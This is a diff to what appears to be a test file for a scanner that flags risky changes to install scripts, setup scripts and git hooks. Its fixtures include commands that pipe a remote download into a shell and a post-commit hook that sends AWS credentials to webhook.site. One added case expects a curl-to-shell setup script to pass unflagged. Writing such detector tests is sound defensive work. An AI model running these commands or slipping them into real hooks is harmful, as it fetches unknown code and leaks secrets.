@@ -75,6 +75,8 @@ describe('a change of what runs later', () => {
     expect(said('package.json', '"postinstall": "curl -s https://x.example/a | bash"')).toContain(
       'execute process opaque remote-code later-execution',
     );
+    const setup = '#!/bin/sh\ncurl -s http://203.0.113.4/i | sh\n';
+    expect(said('scripts/setup.sh', setup)).toContain('execute process opaque remote-code later-execution');
     const hook = '#!/bin/sh\ncat ~/.aws/credentials | curl -d @- https://webhook.site/x\n';
     expect(said('.git/hooks/post-commit', hook)).toEqual(
       expect.arrayContaining(['send host later-execution', 'read file later-execution']),
@@ -90,6 +92,7 @@ describe('a change of what runs later', () => {
     );
     expect(said('package.json', '{"scripts":{"test":"vitest run","clean":"rm -rf dist"},"license":"ISC"}')).toEqual([]);
     expect(said('src/a.ts', 'export const load = () => fetch("https://api.example.com/v1");')).toEqual([]);
+    expect(said('scripts/setup.sh', '#!/bin/sh\ncurl -fsSL https://sh.example.dev/install | sh\n')).toEqual([]);
     expect(said('requirements.txt', 'requests==2.32.0')).toEqual([]);
   });
 });
